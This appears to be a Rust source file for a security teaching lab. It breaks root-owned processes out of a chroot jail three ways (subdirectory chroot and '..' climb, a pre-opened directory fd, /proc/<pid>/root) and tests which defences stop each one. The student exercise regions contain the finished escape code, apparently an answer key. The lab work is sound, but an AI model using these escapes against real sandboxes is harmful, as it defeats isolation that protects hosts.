//! Lab chroot-escape: a process that is root in a chroot jail breaks out of it, three
//! ways, and each defence is shown to stop the escape or not. Read labs/chroot-escape/README.md.
//!
//! THIS LAB BREAKS ISOLATION ON PURPOSE. It refuses to run unless the machine looks
//! disposable (a VM or a container, as `cilab doctor` judges) or you pass
//! `--allow-jailbreak-on-this-host`. The escaped processes only read.
//!
//! One process per attempt (`esc-<attempt>`), each jailed in the same busybox jail with
//! its defence, then told to escape. Outside the jail, in the workdir, a sentinel per
//! attempt with random content is planted once every attempt is jailed: an escape counts
//! only if the escaped process reads it and hands its content back into the jail.
//!
//! ```text
//! <workdir>/jail/               busybox rootfs; jail/sub (for the classic escape), jail/loot/<attempt>
//! <workdir>/outside/<attempt>.secret   0600, root's: planted after the jailing
//! <workdir>/outside/<attempt>.public   0644
//! ```

use std::io::Write;
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd, RawFd};
use std::path::{Path, PathBuf};

use anyhow::{anyhow, Context, Result};
use clap::Parser;
use labkit::protocol::chroot_escape::*;
use labkit::protocol::PANIC_EXIT;
use labkit::{caps, child, cleanup, rootfs, Lab, LabArgs, LabError, Voice};
use nix::errno::Errno;
use nix::fcntl::{open, OFlag};
use nix::mount::{mount, umount2, MntFlags, MsFlags};
use nix::sched::{unshare, CloneFlags};
use nix::sys::stat::{stat, Mode};
use nix::sys::wait::{waitpid, WaitStatus};
use nix::unistd::{chdir, chroot, fchdir, mkdir, pivot_root, Gid, Pid, Uid};
use serde_json::json;

/// Break out of a chroot jail as root, three ways, and see which defences hold.
/// Run it as root, in a VM: `sudo target/debug/lab-chroot-escape --step`.
#[derive(Parser)]
#[command(name = "lab-chroot-escape", version)]
struct Cli {
    #[command(flatten)]
    lab: LabArgs,
    /// Run even though this machine does not look disposable (not a VM or container):
    /// the escapes reach this host's root. They only read, but you accept the risk.
    #[arg(long = "allow-jailbreak-on-this-host")]
    allow_jailbreak: bool,
}

fn main() -> std::process::ExitCode {
    let cli = Cli::parse();
    labkit::main("lab-chroot-escape", include_str!("main.rs"), || run(&cli))
}

/// What an attempt does before it is told to escape.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Defence {
    /// chroot(jail) and nothing else.
    None,
    /// The host's proc mounted in the jail (in a mount namespace of its own).
    HostProc,
    /// CAP_SYS_CHROOT dropped from the bounding, permitted and effective sets.
    NoCap,
    /// setresuid/setresgid to 65534.
    Nobody,
    /// A mount namespace of its own, pivot_root into the jail, the old root unmounted.
    Pivot,
    /// A user namespace mapping root inside to `host_root` outside, made before the chroot.
    Userns { host_root: u32 },
    /// The init of a PID namespace; with `own_proc`, only that namespace's proc in the jail.
    Pidns { own_proc: bool },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Escape {
    Classic,
    Fd,
    Proc,
}

#[derive(Debug, Clone, Copy)]
struct Attempt {
    name: &'static str,
    defence: Defence,
    escape: Escape,
    /// What it shows, for the narration.
    about: &'static str,
}

const ATTEMPT_TABLE: [Attempt; 11] = [
    Attempt { name: CLASSIC, defence: Defence::None, escape: Escape::Classic, about: "a plain chroot, root inside" },
    Attempt {
        name: FD,
        defence: Defence::None,
        escape: Escape::Fd,
        about: "a plain chroot, a directory fd opened before it",
    },
    Attempt {
        name: PROC,
        defence: Defence::HostProc,
        escape: Escape::Proc,
        about: "a chroot with the host's proc mounted in it",
    },
    Attempt { name: NO_CAP, defence: Defence::NoCap, escape: Escape::Classic, about: "root without CAP_SYS_CHROOT" },
    Attempt { name: AS_NOBODY, defence: Defence::Nobody, escape: Escape::Classic, about: "uid 65534, not root" },
    Attempt {
        name: PIVOT,
        defence: Defence::Pivot,
        escape: Escape::Classic,
        about: "pivot_root into the jail, old root unmounted",
    },
    Attempt {
        name: PIVOT_FD,
        defence: Defence::Pivot,
        escape: Escape::Fd,
        about: "pivot_root, but a directory fd opened before the pivot",
    },
    Attempt {
        name: USERNS_ROOT,
        defence: Defence::Userns { host_root: 0 },
        escape: Escape::Classic,
        about: "a user namespace mapping root to root",
    },
    Attempt {
        name: USERNS_MAPPED,
        defence: Defence::Userns { host_root: MAPPED_ID },
        escape: Escape::Classic,
        about: "a user namespace mapping root to 100000",
    },
    Attempt {
        name: PIDNS_PROC,
        defence: Defence::Pidns { own_proc: true },
        escape: Escape::Proc,
        about: "init of a PID namespace, only its own proc in the jail",
    },
    Attempt {
        name: PIDNS,
        defence: Defence::Pidns { own_proc: false },
        escape: Escape::Classic,
        about: "init of a PID namespace, the classic escape",
    },
];

/// Commands the lab sends to an attempt's process, one byte each.
const MAPS_WRITTEN: u8 = b'm';
const ESCAPE_NOW: u8 = b'e';

/// What every attempt's process needs (copied into each child).
#[derive(Debug, Clone)]
struct Setup {
    voice: Voice,
    workdir: PathBuf,
    jail: PathBuf,
    /// A process outside the jail whose /proc/<pid>/root the proc escape walks through:
    /// the witness, root's, with no capability (following the link needs ptrace read
    /// access: the same uid and a permitted set within the follower's). Not the lab, whose
    /// capabilities the attempts do not hold; not PID 1 (a sandbox's agent here: EACCES).
    host_pid: Pid,
}

fn run(cli: &Cli) -> Result<()> {
    let args = &cli.lab;
    labkit::require_root("lab-chroot-escape", "chroot(2), unshare(2), mount(2) and pivot_root(2)")?;
    let allowed = labkit::disposable::guard("lab-chroot-escape", cli.allow_jailbreak, false)
        .map_err(|why| anyhow!("refusing to run: {why}"))?;
    let mut lab = Lab::new(args, "Lab chroot-escape: where a jail's walls end", 4);
    lab.saw(&format!("this lab breaks out of its jail on purpose; it runs because {allowed}"));
    let workdir = labkit::Workdir::open(args, "chroot-escape")?;
    let busybox = rootfs::find_static_busybox()?;
    let jail = workdir.path().join(JAIL_DIR);
    if jail.exists() {
        anyhow::bail!("{} already exists (left by an earlier run?): remove it and run again", jail.display());
    }
    labkit::create_searchable_dir(&jail)?;
    cleanup::track_dir(&jail);
    let outside = workdir.path().join(OUTSIDE_DIR);
    if !outside.exists() {
        // By hand there is no harness to plant the sentinels: the lab does, after the jailing.
        labkit::create_searchable_dir(&outside)?;
        cleanup::track_dir(&outside);
    }

    // ── Step 1 ───────────────────────────────────────────────────────────────
    lab.step(
        "Build the jail: a busybox rootfs, a directory `sub` in it, a loot file per attempt",
        "mkdir, copy; open(jail/loot/<attempt>, O_CREAT)",
        "mkdir -p jail/{bin,sub,loot} && cp /bin/busybox jail/bin/",
    );
    rootfs::build_busybox_rootfs(&jail, &busybox)?;
    for dir in [SUB_DIR, LOOT_DIR, PUT_OLD] {
        labkit::create_searchable_dir(&jail.join(dir))?;
    }
    for attempt in &ATTEMPT_TABLE {
        let loot = jail.join(LOOT_DIR).join(attempt.name);
        std::fs::write(&loot, "").map_err(LabError::io("create", &loot))?;
    }
    lab.saw(&format!("the jail is {}; the sentinels will be in {}", jail.display(), outside.display()));

    // ── Step 2 ───────────────────────────────────────────────────────────────
    lab.step(
        "Lock one process per attempt in the jail, each with its defence",
        "fork; [open(workdir)]; [unshare(CLONE_NEWNS|NEWUSER|NEWPID)]; chroot(jail) or pivot_root; chdir(\"/\"); [capset, setresuid]",
        "chroot jail sh   /   unshare --mount --pid --fork --user ... chroot jail sh   /   chroot --userspec=65534:65534 jail sh (the drops come after the chroot: see the sheet)",
    );
    let witness = start_witness(lab.voice())?;
    lab.saw(&format!(
        "{WITNESS_COMM} (PID {}): outside the jail, root's, no capability, seccomp strict: the proc escape walks its /proc/<pid>/root",
        witness.pid
    ));
    let setup =
        Setup { voice: lab.voice(), workdir: workdir.path().to_path_buf(), jail: jail.clone(), host_pid: witness.pid };
    let mut running = Vec::new();
    for attempt in &ATTEMPT_TABLE {
        let process = start_attempt(&setup, attempt)?;
        lab.saw(&format!("{:<12} {} (PID {})", attempt.name, attempt.about, process.pid));
        running.push((attempt, process));
    }
    let tried = try_userns_in_chroot(&jail)?;
    lab.saw(&format!("a chrooted process tries unshare(CLONE_NEWUSER) -> {tried}"));
    lab.why("a process whose root is not its mount namespace's root may not make a user namespace: otherwise it would get every capability again inside it, CAP_SYS_CHROOT too.");
    let claims: serde_json::Map<String, serde_json::Value> =
        running.iter().map(|(a, p)| (a.name.to_string(), json!(p.pid.as_raw()))).collect();
    lab.hold(JAILED, json!({ "attempts": claims, "host_pid": setup.host_pid.as_raw() }))?;
    let planted = if lab.plays_host() {
        lab.as_host(&format!("planting a sentinel with random content per attempt in {}", outside.display()));
        Some(plant_sentinels(&outside)?)
    } else {
        None
    };

    // ── Step 3 ───────────────────────────────────────────────────────────────
    lab.step(
        "Each process tries its escape, reads its sentinel outside and hands it back into the jail",
        "classic: mkdir(\"sub\"); chroot(\"sub\"); chdir(\"..\") until it stops; chroot(\".\")  |  fd: fchdir(fd); chdir(\"..\")...; chroot(\".\")  |  proc: chdir(\"/proc/<pid>/root\"); chroot(\".\")",
        "cd /proc/<pid>/root && chroot . cat <workdir>/outside/<attempt>.secret",
    );
    for (attempt, process) in &mut running {
        process.end.send(ESCAPE_NOW)?;
        process
            .end
            .wait_ready(&format!("escaping ({})", attempt.name), "did the escape panic (its error would be above)?")?;
    }
    if let Some(planted) = &planted {
        lab.as_host("what each attempt handed back, compared with what was planted:");
        for (attempt, _) in &running {
            let loot = jail.join(LOOT_DIR).join(attempt.name);
            let text = std::fs::read_to_string(&loot).unwrap_or_default();
            let verdict = planted
                .iter()
                .filter(|(name, _)| name.starts_with(&format!("{}.", attempt.name)))
                .map(|(name, content)| {
                    let kind = name.rsplit('.').next().unwrap_or_default();
                    let got = text.lines().any(|l| l == format!("{kind} {content}"));
                    format!("{kind}: {}", if got { "handed back (escaped)" } else { "not read" })
                })
                .collect::<Vec<_>>()
                .join(", ");
            lab.saw(&format!("{:<12} {verdict}", attempt.name));
        }
    }
    lab.why("chroot changes one process's root and nothing else: `..` stops only at that root, so a process standing outside it (its working directory, an fd, /proc/<pid>/root) walks up to the real one. Only what limits the process itself (no CAP_SYS_CHROOT, no way to the old root after pivot_root, no host proc) stops it.");
    lab.hold(ESCAPED, json!({ "attempts": claims }))?;

    // ── Step 4 ───────────────────────────────────────────────────────────────
    lab.step("Let every attempt end", "close(pipe); waitpid", "exit");
    for (attempt, process) in running {
        process.finish(attempt.name)?;
    }
    witness.finish(WITNESS_COMM)?;
    cleanup::remove_made_dirs()?;
    lab.done("Done: the lab removed the jail and the sentinels. Now answer the questions on the lab sheet.");
    Ok(())
}

/// One attempt's process, as the lab holds it: the lab's child (a launcher for a PID
/// namespace), the pipes to the attempt's process.
struct Running {
    /// The attempt's process, as the lab sees it (in a PID namespace: the launcher).
    pid: Pid,
    end: child::LabEnd,
}

impl Running {
    fn finish(self, name: &str) -> Result<()> {
        let pid = self.pid;
        self.end.release();
        match child::wait(pid, &format!("ending attempt {name}"))? {
            WaitStatus::Exited(_, 0) => Ok(()),
            other => Err(anyhow!("attempt {name} ended badly: {other:?}")),
        }
    }
}

/// The witness: a process outside the jail (its root the host's) that the proc escapes
/// walk through. It is root's, with no capability, so an attempt holding only
/// CAP_SYS_CHROOT may follow its /proc/<pid>/root; that also lets an attempt ptrace it or
/// take its descriptors (pidfd_getfd), so it holds nothing but its pipes and /dev/null,
/// and seccomp's strict mode leaves it read, write and exit: nothing it could be made to
/// open or receive.
fn start_witness(voice: Voice) -> Result<Running> {
    let link = child::Link::new()?;
    let pid = child::spawn(WITNESS_COMM, move || {
        let mut end = link.child_side();
        if let Err(error) = seal_witness(&end) {
            return failed(voice, WITNESS_COMM, &error);
        }
        end.ready();
        while end.next_command().is_some() {}
        // exit(2), not exit_group(2): strict mode allows the first only.
        // SAFETY: ends this (the only) thread; nothing is left to run.
        unsafe { libc::syscall(libc::SYS_exit, 0) };
        1
    })?;
    let mut end = link.lab_side(pid)?;
    end.wait_ready("starting the witness", "did sealing it fail (its error would be above)?")?;
    Ok(Running { pid, end })
}

fn seal_witness(end: &child::ChildEnd) -> Result<()> {
    keep_only(&end.raw_fds());
    let null = open("/dev/null", OFlag::O_RDWR, Mode::empty()).map_err(LabError::sys("open", "/dev/null"))?;
    for fd in 0..=2 {
        nix::unistd::dup2(null, fd).map_err(LabError::sys("dup2", fd))?;
    }
    if null > 2 {
        nix::unistd::close(null).map_err(LabError::sys("close", null))?;
    }
    caps::keep_only(&[]).map_err(LabError::sys("drop every capability", "capset"))?;
    // nix has no wrapper for seccomp: prctl(PR_SET_SECCOMP, SECCOMP_MODE_STRICT).
    // SAFETY: no pointer; from here only read, write, exit and sigreturn are allowed.
    Errno::result(unsafe { libc::prctl(libc::PR_SET_SECCOMP, libc::SECCOMP_MODE_STRICT, 0, 0, 0) })
        .map_err(LabError::sys("prctl(PR_SET_SECCOMP)", "SECCOMP_MODE_STRICT"))?;
    Ok(())
}

fn start_attempt(setup: &Setup, attempt: &Attempt) -> Result<Running> {
    let link = child::Link::new()?;
    let comm = format!("{COMM_PREFIX}{}", attempt.name);
    let (for_child, attempt) = (setup.clone(), *attempt);
    let pid = match attempt.defence {
        Defence::Pidns { .. } => child::spawn(LAUNCHER_COMM, move || {
            launch_in_pid_namespace(&for_child, &attempt, &comm, link)
                .unwrap_or_else(|error| failed(for_child.voice, LAUNCHER_COMM, &error))
        })?,
        _ => child::spawn(&comm.clone(), move || {
            attempt_process(&for_child, &attempt, link.child_side())
                .map(|()| 0)
                .unwrap_or_else(|error| failed(for_child.voice, &comm, &error))
        })?,
    };
    let mut end = link.lab_side(pid)?;
    let likely = "did its defence fail (its error would be above)?";
    end.wait_ready(&format!("jailing attempt {}", attempt.name), likely)?;
    if let Defence::Userns { host_root } = attempt.defence {
        // The parent writes the maps of the child's new user namespace (user_namespaces(7)).
        for file in ["uid_map", "gid_map"] {
            let path = PathBuf::from(format!("/proc/{pid}/{file}"));
            std::fs::write(&path, format!("0 {host_root} 1\n")).map_err(LabError::io("write", &path))?;
        }
        end.send(MAPS_WRITTEN)?;
        end.wait_ready(&format!("jailing attempt {}", attempt.name), likely)?;
    }
    Ok(Running { pid, end })
}

/// The launcher of a PID namespace attempt: unshare, fork the attempt as PID 1, wait.
fn launch_in_pid_namespace(setup: &Setup, attempt: &Attempt, comm: &str, link: child::Link) -> Result<i32> {
    let end = link.child_side();
    keep_only(&end.raw_fds());
    unshare(CloneFlags::CLONE_NEWPID).map_err(LabError::sys("unshare", "CLONE_NEWPID"))?;
    let (for_child, attempt) = (setup.clone(), *attempt);
    let name = comm.to_string();
    // The pipes move into the init; the launcher's copies close with the closure, so that
    // their end of file means the init is gone.
    let init = child::spawn(comm, move || {
        attempt_process(&for_child, &attempt, end)
            .map(|()| 0)
            .unwrap_or_else(|error| failed(for_child.voice, &name, &error))
    })?;
    loop {
        match waitpid(init, None) {
            Ok(WaitStatus::Exited(_, code)) => return Ok(code),
            Ok(WaitStatus::Signaled(..)) => return Ok(1),
            Ok(_) | Err(Errno::EINTR) => continue,
            Err(errno) => return Err(LabError::sys("waitpid", init)(errno).into()),
        }
    }
}

/// An attempt's process: jailed with its defence, it waits, escapes when told, hands
/// back what it read, and waits again until the lab lets it end.
fn attempt_process(setup: &Setup, attempt: &Attempt, mut link: child::ChildEnd) -> Result<()> {
    keep_only(&link.raw_fds());
    let voice = setup.voice;
    let loot_path = setup.jail.join(LOOT_DIR).join(attempt.name);
    // Opened while still on the host: the hand-back needs no path once escaped.
    let loot = std::fs::OpenOptions::new().append(true).open(&loot_path).map_err(LabError::io("open", &loot_path))?;
    let door = if attempt.escape == Escape::Fd {
        Some(open_door(&setup.workdir).map_err(LabError::sys("open_door", setup.workdir.display()))?)
    } else {
        None
    };
    apply_defence_before_jail(setup, attempt, &mut link)?;
    if attempt.defence != Defence::Pivot {
        chroot(&setup.jail).map_err(LabError::sys("chroot", setup.jail.display()))?;
        chdir("/").map_err(LabError::sys("chdir", "/"))?;
    }
    apply_defence_in_jail(attempt)?;
    link.ready();
    if link.next_command() != Some(ESCAPE_NOW) {
        return Ok(());
    }
    let escaped = match attempt.escape {
        Escape::Classic => classic_escape(),
        Escape::Fd => match &door {
            Some(door) => fd_escape(door.as_fd()),
            None => Err(Errno::EBADF),
        },
        Escape::Proc => proc_escape(setup.host_pid),
    };
    let said = match escaped {
        Ok(()) => "done".to_string(),
        Err(errno) => format!("failed: {errno:?} ({})", errno.desc()),
    };
    let read = hand_back(&setup.workdir, attempt.name, &loot);
    voice.inside(&format!("{:<12} escape {said}; {read}", attempt.name));
    link.ready();
    while link.next_command().is_some() {}
    Ok(())
}

fn apply_defence_before_jail(setup: &Setup, attempt: &Attempt, link: &mut child::ChildEnd) -> Result<()> {
    match attempt.defence {
        Defence::HostProc | Defence::Pidns { own_proc: true } => {
            // In a PID namespace's init, proc shows that namespace; elsewhere, the host's.
            private_mount_namespace()?;
            let target = setup.jail.join("proc");
            mount(Some("proc"), &target, Some("proc"), MsFlags::MS_NOSUID | MsFlags::MS_NODEV, None::<&str>)
                .map_err(LabError::sys("mount(\"proc\")", target.display()))?;
        }
        Defence::Pivot => {
            private_mount_namespace()?;
            let jail = &setup.jail;
            mount(Some(jail), jail, None::<&str>, MsFlags::MS_BIND | MsFlags::MS_REC, None::<&str>)
                .map_err(LabError::sys("mount(MS_BIND)", jail.display()))?;
            chdir(jail).map_err(LabError::sys("chdir", jail.display()))?;
            pivot_root(".", PUT_OLD).map_err(LabError::sys("pivot_root", format!(". {PUT_OLD}")))?;
            chdir("/").map_err(LabError::sys("chdir", "/"))?;
            let old = format!("/{PUT_OLD}");
            umount2(old.as_str(), MntFlags::MNT_DETACH).map_err(LabError::sys("umount2(MNT_DETACH)", &old))?;
        }
        Defence::Userns { .. } => {
            // Before the chroot: a chrooted process may not make one (the lab shows it).
            unshare(CloneFlags::CLONE_NEWUSER).map_err(LabError::sys("unshare", "CLONE_NEWUSER"))?;
            link.ready();
            if link.next_command() != Some(MAPS_WRITTEN) {
                return Err(anyhow!("the lab went away before writing the maps"));
            }
            // Root inside, by the map: the kernel's uid becomes the mapped one only now.
            let (root_gid, root_uid) = (Gid::from_raw(0), Uid::from_raw(0));
            nix::unistd::setgroups(&[]).map_err(LabError::sys("setgroups", "[]"))?;
            nix::unistd::setresgid(root_gid, root_gid, root_gid).map_err(LabError::sys("setresgid", 0))?;
            nix::unistd::setresuid(root_uid, root_uid, root_uid).map_err(LabError::sys("setresuid", 0))?;
        }
        Defence::None | Defence::NoCap | Defence::Nobody | Defence::Pidns { own_proc: false } => {}
    }
    Ok(())
}

/// In the jail, every attempt keeps only what its escape needs: CAP_SYS_CHROOT (none for
/// no-cap). Without CAP_SYS_ADMIN it cannot setns into another mount namespace; without
/// CAP_SYS_PTRACE it cannot take another process's descriptors (pidfd_getfd) unless that
/// process holds no more than it; without CAP_DAC_READ_SEARCH no open_by_handle_at: the
/// escape it is told to try is the only way out it has.
fn apply_defence_in_jail(attempt: &Attempt) -> Result<()> {
    let chroot_only = [caps::CAP_SYS_CHROOT];
    match attempt.defence {
        Defence::NoCap => caps::keep_only(&[]).map_err(LabError::sys("drop every capability", "capset"))?,
        Defence::Nobody => {
            // Setting the ids needs CAP_SETUID and CAP_SETGID: the exec limits first; the
            // setresuid away from root empties the permitted and effective sets.
            caps::limit_exec(&chroot_only).map_err(LabError::sys("keep only CAP_SYS_CHROOT", "prctl"))?;
            let id = |n| (Gid::from_raw(n), Uid::from_raw(n));
            let (gid, uid) = id(NOBODY);
            nix::unistd::setgroups(&[]).map_err(LabError::sys("setgroups", "[]"))?;
            nix::unistd::setresgid(gid, gid, gid).map_err(LabError::sys("setresgid", NOBODY))?;
            nix::unistd::setresuid(uid, uid, uid).map_err(LabError::sys("setresuid", NOBODY))?;
        }
        _ => caps::keep_only(&chroot_only).map_err(LabError::sys("keep only CAP_SYS_CHROOT", "capset"))?,
    }
    Ok(())
}

fn private_mount_namespace() -> Result<()> {
    unshare(CloneFlags::CLONE_NEWNS).map_err(LabError::sys("unshare", "CLONE_NEWNS"))?;
    mount(None::<&str>, "/", None::<&str>, MsFlags::MS_REC | MsFlags::MS_PRIVATE, None::<&str>)
        .map_err(LabError::sys("mount(MS_REC|MS_PRIVATE)", "/"))?;
    Ok(())
}

/// The classic escape, as root in the jail: chroot into a subdirectory, which leaves the
/// working directory outside the new root; walk `..` from there until it stops moving
/// (at the real root); make that the root.
fn classic_escape() -> nix::Result<()> {
    // STUDENT: begin classic-escape
    // Hint: mkdir(SUB_DIR) (it may exist: EEXIST is fine), chroot(SUB_DIR) and NOT chdir
    // into it; then chdir("..") until "." stays the same directory (stat: device and
    // inode), then chroot(".").
    match mkdir(SUB_DIR, Mode::from_bits_truncate(0o755)) {
        Ok(()) | Err(Errno::EEXIST) => {}
        Err(errno) => return Err(errno),
    }
    chroot(SUB_DIR)?;
    climb()?;
    chroot(".")
    // STUDENT: end classic-escape
}

/// Opens the directory the fd escape will use: called BEFORE the chroot, so it is a
/// directory of the host's (the lab's workdir).
fn open_door(outside: &Path) -> nix::Result<OwnedFd> {
    // STUDENT: begin open-door
    // Hint: open(2) `outside` as a directory (O_RDONLY | O_DIRECTORY). Keep the
    // descriptor: it still names that directory after the chroot.
    let fd = open(outside, OFlag::O_RDONLY | OFlag::O_DIRECTORY, Mode::empty())?;
    Ok(own(fd))
    // STUDENT: end open-door
}

/// The fd escape: go where the descriptor opened before the chroot points, walk up to
/// the real root, make it the root.
fn fd_escape(door: BorrowedFd) -> nix::Result<()> {
    // STUDENT: begin fd-escape
    // Hint: fchdir(2) to the door; you are now outside the root, so `..` is not stopped:
    // walk it up until it stops moving, then chroot(".").
    fchdir(door.as_raw_fd())?;
    climb()?;
    chroot(".")
    // STUDENT: end fd-escape
}

/// The /proc escape: with the host's proc in the jail, /proc/<pid>/root of a process
/// outside the jail is that process's root directory.
fn proc_escape(host_pid: Pid) -> nix::Result<()> {
    // STUDENT: begin proc-escape
    // Hint: chdir into "/proc/<host_pid>/root" (a magic link to that process's root; not
    // PID 1's: here it may be a sandbox agent you may not trace, EACCES), then chroot(".").
    chdir(format!("/proc/{host_pid}/root").as_str())?;
    chroot(".")
    // STUDENT: end proc-escape
}

/// chdir("..") until the working directory stops moving: at the root of the mount tree
/// when nothing stops it, at the process's root when that is above.
fn climb() -> nix::Result<()> {
    for _ in 0..4096 {
        let here = stat(".").map(|st| (st.st_dev, st.st_ino))?;
        chdir("..")?;
        if stat(".").map(|st| (st.st_dev, st.st_ino))? == here {
            return Ok(());
        }
    }
    Err(Errno::ELOOP)
}

/// After the escape: reads this attempt's sentinels by their host paths and writes what
/// it read into the loot file (opened in the jail before). Only reads outside the jail.
fn hand_back(workdir: &Path, name: &str, mut loot: &std::fs::File) -> String {
    let mut said = Vec::new();
    for (kind, suffix) in [("secret", SECRET_SUFFIX), ("public", PUBLIC_SUFFIX)] {
        let path = workdir.join(OUTSIDE_DIR).join(format!("{name}{suffix}"));
        match std::fs::read_to_string(&path) {
            Ok(content) => {
                let _ = writeln!(loot, "{kind} {}", content.trim());
                said.push(format!("{kind}: read"));
            }
            Err(e) => said.push(format!("{kind}: {}", e.kind())),
        }
    }
    said.join(", ")
}

/// A child chroots into the jail, then tries unshare(CLONE_NEWUSER): the errno.
fn try_userns_in_chroot(jail: &Path) -> Result<String> {
    let jail = jail.to_path_buf();
    let pid = child::spawn(USERNS_TRY_COMM, move || {
        let attempt = || -> nix::Result<()> {
            chroot(&jail)?;
            chdir("/")?;
            unshare(CloneFlags::CLONE_NEWUSER)
        };
        match attempt() {
            Ok(()) => 0,
            Err(errno) => errno as i32,
        }
    })?;
    Ok(match child::wait(pid, "trying a user namespace in a chroot")? {
        WaitStatus::Exited(_, 0) => "it worked (!)".to_string(),
        WaitStatus::Exited(_, code) => {
            let errno = Errno::from_raw(code);
            format!("{errno:?} ({})", errno.desc())
        }
        other => format!("{other:?}"),
    })
}

/// By hand: the sentinels, with random content, each (file name, content).
fn plant_sentinels(outside: &Path) -> Result<Vec<(String, String)>> {
    use std::os::unix::fs::PermissionsExt;
    let mut planted = Vec::new();
    for attempt in &ATTEMPT_TABLE {
        for (suffix, mode) in [(SECRET_SUFFIX, 0o600), (PUBLIC_SUFFIX, 0o644)] {
            let name = format!("{}{suffix}", attempt.name);
            let path = outside.join(&name);
            let content = random_hex().context("reading /dev/urandom")?;
            std::fs::write(&path, format!("{content}\n")).map_err(LabError::io("write", &path))?;
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode))
                .map_err(LabError::io("chmod", &path))?;
            planted.push((name, content));
        }
    }
    Ok(planted)
}

fn random_hex() -> std::io::Result<String> {
    let mut bytes = [0u8; 16];
    std::io::Read::read_exact(&mut std::fs::File::open("/dev/urandom")?, &mut bytes)?;
    Ok(bytes.iter().map(|b| format!("{b:02x}")).collect())
}

/// Closes every descriptor above 2 but `keep`: a process forked later inherits the lab's
/// ends of the earlier attempts' pipes, and their end of file would never come.
fn keep_only(keep: &[RawFd]) {
    let open: Vec<RawFd> = std::fs::read_dir("/proc/self/fd")
        .map(|entries| entries.flatten().filter_map(|e| e.file_name().to_str()?.parse().ok()).collect())
        .unwrap_or_default();
    for fd in open.into_iter().filter(|fd| *fd > 2 && !keep.contains(fd)) {
        let _ = nix::unistd::close(fd);
    }
}

fn own(fd: RawFd) -> OwnedFd {
    use std::os::fd::FromRawFd;
    // SAFETY: open just returned this descriptor; nothing else owns it.
    unsafe { OwnedFd::from_raw_fd(fd) }
}

/// A child's exit status for an error, which it says first.
fn failed(voice: Voice, who: &str, error: &anyhow::Error) -> i32 {
    voice.inside(&format!("{who} failed: {error:#}"));
    if child::panic_seen() {
        PANIC_EXIT
    } else {
        1
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_student_regions_are_the_expected_ones() {
        let regions = labkit::regions::parse(include_str!("main.rs")).expect("regions parse");
        let names: Vec<&str> = regions.iter().map(|r| r.name.as_str()).collect();
        assert_eq!(names, ["classic-escape", "open-door", "fd-escape", "proc-escape"]);
    }

    #[test]
    fn every_attempt_is_in_the_table_once_in_protocol_order() {
        let names: Vec<&str> = super::ATTEMPT_TABLE.iter().map(|a| a.name).collect();
        assert_eq!(names, labkit::protocol::chroot_escape::ATTEMPTS);
    }
}
